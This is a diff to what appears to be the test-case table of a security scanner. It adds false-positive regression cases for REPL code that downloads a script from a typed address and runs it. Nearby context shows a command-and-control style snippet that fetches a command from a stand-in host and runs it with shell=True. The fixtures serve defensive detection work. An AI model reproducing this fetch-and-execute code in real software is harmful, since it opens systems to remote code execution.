@@ -308,6 +308,14 @@ CASES = [
     ({"demo/c2.py": "import requests, subprocess\ndef poll():\n"
                     "    cmd = requests.get('https://x.example/task').text\n    subprocess.run(cmd, shell=True)\n"},
      "code.process-spawn", H, "a whole command line fetched over HTTP is run"),
+    ({"demo/repl.py": "import os, requests\ndef lookup():\n    return requests.get('https://icanhazip.com').text\n"
+                      "def shell(message):\n    if message.startswith('LOAD '):\n"
+                      "        message = requests.get(message[5:]).text\n    os.system(message)\n"},
+     "code.process-spawn", None, "FP regression: a REPL runs a script from the address typed at it"),
+    ({"demo/repl.py": "import requests\ndef shell(message):\n    print(requests.get('https://icanhazip.com').text)\n"
+                      "    if message.startswith('LOAD '):\n        message = requests.get(message[5:]).text\n"
+                      "    exec(message)\n"},
+     "code.download-exec", L, "FP regression: an IP lookup beside a REPL's load is no payload host"),
     ({"demo/repo.py": "import requests, subprocess\ndef clone(api):\n"
                       "    url = requests.get(api).json()['clone_url']\n"
                       "    subprocess.run(f'git clone {url} .', shell=True)\n"},
